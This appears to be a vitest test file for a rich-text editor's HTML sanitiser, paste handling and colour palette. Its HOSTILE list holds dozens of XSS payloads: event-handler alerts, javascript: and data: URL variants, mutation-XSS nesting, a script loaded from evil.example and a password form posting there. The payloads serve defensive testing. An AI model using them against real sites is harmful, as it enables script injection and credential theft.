import { Editor } from '@tiptap/core'
import { describe, expect, it } from 'vitest'
import { isKnownSource } from '@/api/hosts'
import { clean, fragmentOf, isSafeLink, sanitise, wordsOf } from '@/kit/rich/html'
import { extensionsOf, htmlOf } from '@/kit/rich/extensions'
import { GROUNDS, INKS } from '@/kit/rich/palette'
import { hasText, readPaste } from '@/kit/rich/paste'
import { followPlace, replacePictures } from '@/kit/rich/pictures'

const nodes = (html: string): HTMLElement => {
  const body = document.implementation.createHTMLDocument('').body
  body.innerHTML = html
  return body
}
const edited = (html: string): string => {
  const editor = new Editor({ element: null, extensions: extensionsOf((name) => name), content: sanitise(html) })
  const out = htmlOf(editor)
  editor.destroy()
  return out
}

const HOSTILE = [
  '<body onload=alert(1)><p>x</p></body>',
  '<html><head><title>x</title></head><body style="position:fixed"><p>x</p></body></html>',
  '<script>steal()</script>',
  '<p>a</p><script src="https://evil.example/x.js"></script>',
  '<img src=x onerror=alert(1)>',
  '<img src="/a.png" onload="alert(1)">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x"></object><embed src="x">',
  '<form action="https://evil.example"><input name="password" type="password"><button>登录</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option>1</option></select><textarea>x</textarea>',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">',
  '<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/t)">x</div>',
  '<div style="position : absolute; top:0">x</div>',
  '<p style="position:sticky;color:red">x</p>',
  '<p style="width:expression(alert(1));behavior:url(x)">x</p>',
  '<p style="background-color:url(https://evil.example/t)">x</p>',
  '<span style="color:red;position:fixed">x</span><span style="color:url(https://evil.example/t)">x</span>',
  '<span style="background:url(https://evil.example/t)">x</span><span style="background-color:image-set(https://evil.example/t)">x</span>',
  '<span style="color:var(--x, red);background-color:rgb(1,2,3) url(https://evil.example/t)">x</span>',
  '<blockquote cite="javascript:alert(1)" style="position:fixed">x</blockquote><hr style="background-image:url(https://evil.example/t)">',
  '<video src="//evil.example/x.mp4"></video><video src="/v.mp4" poster="https://evil.example/p.png" muted loop></video>',
  '<div id="root" class="ant-modal-mask">x</div>',
  '<p id="__proto__" name="attributes" class="card">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a><a href="blob:https://x/1">x</a>',
  '<a href="//evil.example">x</a><a href="/\\evil.example">x</a><a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  `<img src="data:image/png;base64,${'A'.repeat(5000)}">`,
  '<img src="/a.png" srcset="https://evil.example/b.png 2x" loading="lazy" usemap="#m">',
  '<video src="javascript:alert(1)" poster="javascript:alert(1)"></video><video src="/v.mp4" poster="data:x" autoplay onplay="x()"></video>',
  '<video><source src="https://evil.example/x.mp4"></video><audio src="https://evil.example/x.mp3" autoplay></audio>',
  '<table background="https://evil.example/t.png"><tr><td onclick="x()">x</td></tr></table>',
  '<p onclick="x()" contenteditable data-x="1" aria-label="x" tabindex="0" accesskey="x" draggable="true">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<template><img src=x onerror=alert(1)></template><dialog open>x</dialog><marquee onstart=x()>x</marquee>',
  '<a href="https://a.example" target="_self" rel="opener">x</a>',
  '<frameset>',
  '<frameset><frame src="https://evil.example"></frameset>',
  '<video src="https://evil.example/x.mp4" poster="https://evil.example/p.png" autoplay></video>',
  '<p><img src="https://evil.example/x.png"></p>',
  '<p>a<!--[if gte mso 9]><xml><o:x onerror="x"/></xml><![endif]-->b</p>',
]

const GOOD = [
  '<h1>一</h1><h2>二</h2><h3>三</h3><h4>四</h4><p>正文<strong>粗</strong><em>斜</em><u>线</u><s>删</s>x<sub>1</sub>y<sup>2</sup></p>',
  '<ul><li><p>甲</p></li><li><p>乙</p><ol><li><p>丙</p></li></ol></li></ul><ol start="3"><li><p>三</p></li></ol>',
  '<p style="text-align: center">居中</p><h2 style="text-align: right">右</h2>',
  '<p><span style="color: rgb(255, 0, 0)">红</span>与<span style="background-color: rgb(255, 255, 0)">黄</span></p>',
  '<p><a target="_blank" rel="noopener noreferrer nofollow" href="https://www.example.com/a?b=1&amp;c=2#d">链接</a></p>',
  '<p>图<img src="/__files/1" alt="图">后</p>',
  '<p><img src="https://cdn.example.com/1.png" alt="外部" width="300" height="200"></p>',
  '<video src="https://cdn.example.com/1.mp4" poster="/p.png" width="640" controls=""></video>',
  '<blockquote><p>引</p></blockquote><hr><pre><code>x &lt; y</code></pre><p>行<br>行</p>',
  '<p>&lt;script&gt; 是文字 &amp; 不是脚本</p>',
]
const TABLE =
  '<table><tbody><tr><th colspan="1" rowspan="1"><p>项目</p></th><th colspan="1" rowspan="1"><p>积分</p></th></tr><tr><td colspan="2" rowspan="1"><p>投保</p></td></tr></tbody></table>'

const isClean = (html: string) => {
  const body = nodes(html)
  for (const element of body.querySelectorAll('*')) {
    expect(element.localName).toMatch(
      /^(p|br|hr|h[1-4]|strong|b|em|i|u|s|sub|sup|blockquote|ul|ol|li|a|img|video|table|colgroup|col|thead|tbody|tr|th|td|span|div|code|pre|figure|figcaption)$/,
    )
    for (const { name, value } of element.attributes) {
      expect(name).toMatch(
        /^(href|target|rel|src|poster|controls|alt|title|colspan|rowspan|width|height|style|start|data-card)$/,
      )
      expect(value).not.toMatch(/javascript:|vbscript:|data:|expression|url\(|position|inset|z-index/i)
    }
  }
}

describe('rich text', () => {
  it.each(HOSTILE.map((html) => [html.slice(0, 70), html]))(
    'F-194 F-197 contains nothing harmful of %s when shown, edited or sent',
    (_, html = '') => {
      isClean(sanitise(html))
      isClean(edited(html))
      const shown = document.createElement('div')
      shown.append(fragmentOf(html, (host) => host))
      for (const place of shown.querySelectorAll('.rich-foreign')) place.removeAttribute('class')
      isClean(shown.innerHTML)
      expect(sanitise(sanitise(html))).toBe(sanitise(html))
      expect(clean(html).lost || sanitise(html) === html || /target="_self"|<!--/.test(html)).toBe(true)
    },
  )
  it.each(HOSTILE.map((html) => [html.slice(0, 70), html]))(
    'F-196 loads nothing from foreign hosts in the editor for %s',
    (_, html = '') => {
      const host = document.createElement('div')
      const editor = new Editor({ element: host, extensions: extensionsOf((name) => name), content: html })
      for (const media of host.querySelectorAll('img, video'))
        for (const name of ['src', 'poster']) expect(isKnownSource(media.getAttribute(name) ?? '')).toBe(true)
      expect(JSON.stringify(editor.getJSON())).not.toMatch(/url\(|image-set|var\(/)
      editor.destroy()
    },
  )
  it('is empty for a lone frameset', () => {
    expect(fragmentOf('<frameset>', String).textContent).toBe('')
    expect(readPaste('<frameset>').html).toBe('')
    expect(hasText('<frameset>')).toBe(false)
    expect(wordsOf('<frameset>')).toBe('')
  })
  it('F-194 distinguishes harmful markup from unknown markup', () => {
    expect(clean('<p onclick="x()">a</p>').hostile).toBe(true)
    expect(clean('<p>a</p><script>x</script>').hostile).toBe(true)
    expect(clean('<p class="MsoNormal" style="mso-x:1">a</p>')).toEqual({
      html: '<p>a</p>',
      lost: true,
      hostile: false,
    })
    expect(clean('<p>a</p><!-- note -->').lost).toBe(false)
    expect(clean(null)).toEqual({ html: '', lost: false, hostile: false })
  })
  it('F-195 opens links in a new tab without an opener and allows only safe targets', () => {
    const link = nodes(sanitise('<a href="https://a.example/x" target="_top">x</a>')).querySelector('a')
    expect([link?.target, link?.rel]).toEqual(['_blank', 'noopener noreferrer nofollow'])
    expect(
      ['https://a.example', 'http://a.example', 'mailto:a@b.example', 'tel:400', '/home'].filter(isSafeLink),
    ).toHaveLength(5)
    expect(
      [
        'javascript:x',
        'data:x',
        '//a.example',
        '/\\a.example',
        'ftp://a.example',
        '#x',
        '',
        'a b',
        'https://a b',
      ].filter(isSafeLink),
    ).toEqual([])
  })
  it('F-195 has inactive links in a preview', () => {
    const shown = fragmentOf('<a href="https://a.example">x</a>', String, false)
    expect(shown.querySelector('a')?.attributes).toHaveLength(0)
  })
  it('F-196 names pictures of unknown hosts instead of loading them', () => {
    expect(isKnownSource('/__files/1')).toBe(true)
    expect(isKnownSource(`${location.origin}/a.png`)).toBe(true)
    expect(isKnownSource('https://spy.example/a.png')).toBe(false)
    const shown = fragmentOf(
      '<img src="https://spy.example/1.png" alt="图"><img src="/__files/1"><video src="https://spy.example/1.mp4" poster="https://spy.example/p.png"></video>',
      (host) => `未加载 ${host}`,
    )
    expect([...shown.querySelectorAll('img, video')].map((one) => one.getAttribute('src'))).toEqual(['/__files/1'])
    expect([...shown.querySelectorAll('.rich-foreign')].map((one) => one.textContent)).toEqual([
      '未加载 spy.example · 图',
      '未加载 spy.example',
    ])
  })
  it('F-197 keeps valid content unchanged', () => {
    for (const html of [...GOOD, TABLE]) {
      expect(sanitise(html)).toBe(html)
      expect(clean(html).lost).toBe(false)
    }
  })
  it.each(GOOD)('F-197 passes unchanged through the editor: %s', (html) =>
    expect(nodes(edited(html)).innerHTML).toBe(nodes(html).innerHTML),
  )
  it('F-197 keeps both colours of a span when edited repeatedly', () => {
    const once = edited('<p><span style="color: rgb(168, 7, 26); background-color: #fff1b8">红</span></p>')
    expect(once).toContain('color: rgb(168, 7, 26)')
    expect(once).toMatch(/background-color: (#fff1b8|rgb\(255, 241, 184\))/)
    expect(nodes(once).textContent).toBe('红')
    expect(edited(once)).toBe(once)
  })
  it('shows controls on every video and removes autoplay', () => {
    expect(sanitise('<video src="/__files/video" autoplay></video>')).toBe(
      '<video src="/__files/video" controls=""></video>',
    )
  })
  it('keeps a content card in the editor but drops an invalid card name', () => {
    const card =
      '<figure data-card="goods/128"><img src="/__files/1.png" alt=""><figcaption>冬季脚垫</figcaption></figure>'
    expect(sanitise(card)).toBe(card)
    expect(edited(`<p>见</p>${card}`)).toBe(`<p>见</p>${card}`)
    expect(sanitise('<figure data-card="javascript:alert(1)"></figure><p data-card="goods/1">x</p>')).toBe(
      '<figure></figure><p>x</p>',
    )
  })
  it('F-197 keeps a table when edited repeatedly', () => {
    const once = edited(TABLE)
    expect(nodes(once).textContent).toBe('项目积分投保')
    expect(nodes(once).querySelector('td')?.getAttribute('colspan')).toBe('2')
    expect(edited(once)).toBe(once)
  })
  it('is converted to plain text with one line per block', () =>
    expect(wordsOf(`<h2>标题</h2><p>一&nbsp;二<br>三</p>${TABLE}<ul><li><p>甲</p></li></ul><script>x</script>`)).toBe(
      '标题\n一 二\n三\n项目 积分\n投保\n甲',
    ))
})

describe('editor palette', () => {
  const light = (value: string): number => {
    const [red = 0, green = 0, blue = 0] = (value.match(/\d+/g) ?? []).map((part) => {
      const share = Number(part) / 255
      return share <= 0.04045 ? share / 12.92 : ((share + 0.055) / 1.055) ** 2.4
    })
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue
  }
  const ratio = (dark: string, bright: string) => (light(bright) + 0.05) / (light(dark) + 0.05)
  it('meets WCAG AA contrast for every text colour on every background', () => {
    const grounds = ['rgb(255, 255, 255)', ...GROUNDS.map(({ value }) => value)]
    for (const ink of ['rgb(31, 31, 31)', ...INKS.map(({ value }) => value)])
      for (const ground of grounds) expect(ratio(ink, ground), `${ink} on ${ground}`).toBeGreaterThan(4.5)
  })
  it('is kept by sanitiser, editor and paste, unlike other colours', () => {
    for (const { value } of INKS) {
      const html = `<p><span style="color: ${value}">字</span></p>`
      expect([sanitise(html), edited(html), readPaste(html).html]).toEqual([html, html, html])
    }
    for (const { value } of GROUNDS) {
      const html = `<p><span style="background-color: ${value}">字</span></p>`
      expect([sanitise(html), edited(html), readPaste(html).html]).toEqual([html, html, html])
    }
    expect(edited(readPaste('<p><span style="color: rgb(255, 0, 0)">字</span></p>').html)).toBe('<p>字</p>')
  })
})

const WORD = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><meta name=Generator content="Microsoft Word 15"><style><!-- p.MsoNormal {margin:0cm;font-size:10.5pt} --></style></head><body lang=ZH-CN style='tab-interval:21.0pt'><!--StartFragment-->
<p class=MsoNormal align=center style='text-align:center'><b><span style='font-size:16.0pt;font-family:宋体;color:black'>用户服务协议<span lang=EN-US><o:p></o:p></span></span></b></p>
<p class=MsoNormal style='text-indent:21.0pt;mso-char-indent-count:2.0'><span style='font-family:宋体;mso-ascii-font-family:Calibri'>请您在使用本服务前仔细阅读本协议的全部内容,特别是以<u>下划线</u>标明的条款。</span><span lang=EN-US><o:p></o:p></span></p>
<p class=MsoNormal><span lang=EN-US><o:p>&nbsp;</o:p></span></p>
<p class=MsoListParagraph style='margin-left:21.0pt;text-indent:-21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span lang=EN-US style='mso-list:Ignore'>1.<span style='font:7.0pt "Times New Roman"'>&nbsp;&nbsp; </span></span><![endif]><span style='font-family:宋体'>账号的注册与使用</span></p>
<p class=MsoListParagraph style='margin-left:42.0pt;mso-list:l0 level2 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>a)<span>&nbsp;</span></span><![endif]><span>实名认证</span></p>
<p class=MsoListParagraph style='margin-left:21.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span style='mso-list:Ignore'>2.<span>&nbsp;</span></span><![endif]><span>账号的注销</span></p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span style='font-family:Wingdings;mso-list:Ignore'>l<span>&nbsp;</span></span><![endif]><span>无序</span></p>
<p><img width=100 src="file:///C:/Users/a/AppData/Local/Temp/msohtmlclip1/01/clip_image002.png"></p><!--EndFragment--></body></html>`
const EXCEL = `<html xmlns:x="urn:schemas-microsoft-com:office:excel"><head><meta name=ProgId content=Excel.Sheet><style><!--.xl65{mso-number-format:"\\@"}--></style></head><body><table border=0 cellpadding=0 cellspacing=0 width=144 style='border-collapse:collapse;width:108pt'><!--StartFragment--><col width=72 span=2 style='width:54pt'><tr height=19 style='height:14.0pt'><td height=19 class=xl65 width=72 style='height:14.0pt;width:54pt'>险种</td><td class=xl65 width=72 style='width:54pt'>积分</td></tr><tr height=19><td>交强险</td><td align=right x:num>500</td></tr><!--EndFragment--></table></body></html>`
const DOCS = `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1"><p dir="ltr" style="line-height:1.38"><span style="font-size:11pt;font-family:Arial;font-weight:700;font-style:normal">粗体</span><span style="font-weight:400;font-style:italic">斜体</span><span style="text-decoration:underline">下划线</span></p></b>`

describe('F-198 pasting', () => {
  const pasted = (html: string) => edited(readPaste(html).html)

  it('F-198 keeps emphasis and real lists from Word and counts pictures it cannot load', () => {
    const body = nodes(pasted(WORD))
    expect(body.querySelector('p')?.outerHTML).toBe('<p style="text-align: center"><strong>用户服务协议</strong></p>')
    expect(body.querySelector('u')?.textContent).toBe('下划线')
    expect([...body.querySelectorAll(':scope > ol > li')].map((one) => one.querySelector('p')?.textContent)).toEqual([
      '账号的注册与使用',
      '账号的注销',
    ])
    expect(body.querySelector('ol ol li')?.textContent).toBe('实名认证')
    expect(body.querySelector('ul li')?.textContent).toBe('无序')
    expect(readPaste(WORD).lost).toBe(1)
    expect(body.innerHTML).not.toMatch(/mso|class|font|o:p|<span/i)
  })
  it('keeps the table from Excel without its styling', () => {
    const body = nodes(pasted(EXCEL))
    expect(
      [...body.querySelectorAll('tr')].map((row) => [...row.querySelectorAll('td')].map((cell) => cell.textContent)),
    ).toEqual([
      ['险种', '积分'],
      ['交强险', '500'],
    ])
    expect(body.innerHTML).not.toMatch(/class|xl65|width|height/)
    expect(hasText(EXCEL)).toBe(true)
    expect(hasText('<meta charset="utf-8"><img src="https://a.example/1.png">')).toBe(false)
  })
  it('keeps emphasis given only by a style and ignores false bold', () => {
    expect(pasted(DOCS)).toBe('<p><strong>粗体</strong><em>斜体</em><u>下划线</u></p>')
  })
  it('extracts embedded pictures for upload', () => {
    const { html, pictures, lost } = readPaste(
      '<p>甲<img src="data:image/png;base64,iVBORw0KGgo=">乙</p><img src="data:image/gif;base64,R0lG"><img src="https://a.example/1.png">',
    )
    expect(html).toBe('<p>甲乙</p><img src="https://a.example/1.png">')
    expect(pictures.map(({ type, size }) => [type, size])).toEqual([['image/png', 8]])
    expect(lost).toBe(1)
  })
  it('keeps the HTML of a long Word text under twice its text length', () => {
    const long = WORD.replace('账号的注册与使用', '账号的注册与使用'.repeat(40))
    const out = pasted(long)
    expect(out.length).toBeLessThan(2 * wordsOf(out).length)
  })
  it('drops scripts and frames from web pages', () => {
    const out = pasted('<p onmouseover="x()">好<script>x()</script><iframe src="https://evil.example"></iframe></p>')
    expect(out).toBe('<p>好</p>')
  })
})

describe('pictures in the editor', () => {
  const open = (content: string) =>
    new Editor({ element: document.createElement('div'), extensions: extensionsOf((name) => name), content })
  const A = { url: '/a.png', name: 'a' }
  const B = { url: '/b.png', name: 'b' }

  it('are inserted where they were chosen, whatever is selected or typed during the upload', () => {
    const editor = open('<p>一二</p><p>三四</p>')
    editor.commands.setTextSelection(2)
    const [first, second] = [followPlace(editor), followPlace(editor)]
    editor.commands.insertContentAt(2, '新')
    editor.commands.setTextSelection({ from: 6, to: 8 })
    first([A])
    second([B])
    expect(htmlOf(editor)).toBe('<p>一<img src="/a.png" alt="a"><img src="/b.png" alt="b">新二</p><p>三四</p>')
    const { from, to } = editor.state.selection
    expect(editor.state.doc.textBetween(from, to)).toBe('三四')
    followPlace(editor, 1)([A])
    expect(htmlOf(editor)).toMatch(/^<p><img src="\/a.png" alt="a">一/)
    editor.destroy()
  })

  it('replace a range that is still selected', () => {
    const editor = open('<p>一二</p>')
    editor.commands.setTextSelection({ from: 1, to: 2 })
    followPlace(editor)([A])
    expect(htmlOf(editor)).toBe('<p><img src="/a.png" alt="a">二</p>')
    expect(editor.state.selection.from).toBe(2)
    editor.destroy()
  })

  it('get new addresses without moving the caret', () => {
    const editor = open('<p><img src="/a.png">一二<img src="/b.png">三</p><p>四</p>')
    editor.commands.setTextSelection(3)
    replacePictures(editor, (src) => (src === '/a.png' ? '/new.png' : undefined))
    expect(htmlOf(editor)).toBe('<p><img src="/new.png">一二三</p><p>四</p>')
    expect(editor.state.selection.from).toBe(3)
    editor.commands.undo()
    expect(htmlOf(editor)).toContain('/new.png')
    editor.destroy()
  })
})
